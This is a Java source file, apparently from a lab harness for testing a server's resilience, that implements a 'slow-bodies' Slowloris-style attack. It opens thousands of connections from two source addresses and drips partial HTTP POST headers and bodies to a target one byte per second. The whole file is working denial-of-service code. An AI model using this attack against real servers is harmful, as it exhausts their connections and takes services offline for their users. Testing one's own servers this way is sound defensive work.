package io.sugang.lab.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/**
 * Connections of two addresses that send a request a byte at a time: half of each address' are
 * within the headers, half within the body.
 */
final class SlowBodies implements Attack {
  private static final int OF_AN_ADDRESS = 2_400;
  private static final Duration BETWEEN_BYTES = Duration.ofSeconds(1);
  private static final String HEAD =
      "POST /api/enrollments HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n";
  private static final String BODY = HEAD + "Content-Length: 10000\r\n\r\n{";

  private final InetSocketAddress target;
  private final List<String> addresses;

  SlowBodies(InetSocketAddress target, List<String> addresses) {
    this.target = target;
    this.addresses = List.copyOf(addresses);
  }

  @Override
  public String name() {
    return "slow-bodies";
  }

  @Override
  public String what() {
    return "two addresses hold %d connections each and send a byte a second"
        .formatted(OF_AN_ADDRESS);
  }

  @Override
  public AttackResult run(Duration time) throws IOException, InterruptedException {
    long end = System.nanoTime() + time.toNanos();
    List<SocketChannel> open = new ArrayList<>();
    int begun = 0;
    try {
      for (int number = 0; number < OF_AN_ADDRESS; number++) {
        for (String address : addresses) {
          @Nullable SocketChannel channel = begin(address, number % 2 == 0 ? BODY : HEAD);
          if (channel != null) {
            open.add(channel);
            begun++;
          }
        }
      }
      while (System.nanoTime() < end) {
        Thread.sleep(BETWEEN_BYTES);
        open.removeIf(channel -> !sendByte(channel));
      }
    } finally {
      for (SocketChannel channel : open) {
        channel.close();
      }
    }
    return new AttackResult(Map.of(0, begun), null);
  }

  private @Nullable SocketChannel begin(String address, String text) throws IOException {
    SocketChannel channel = SocketChannel.open();
    try {
      channel.bind(new InetSocketAddress(address, 0));
      channel.connect(target);
      channel.write(ByteBuffer.wrap(text.getBytes(US_ASCII)));
      channel.configureBlocking(false);
      return channel;
    } catch (IOException refused) {
      channel.close();
      return null;
    }
  }

  private static boolean sendByte(SocketChannel channel) {
    try {
      channel.write(ByteBuffer.wrap(new byte[] {'x'}));
      return true;
    } catch (IOException closed) {
      try {
        channel.close();
      } catch (IOException alreadyClosed) {
        return false;
      }
      return false;
    }
  }
}
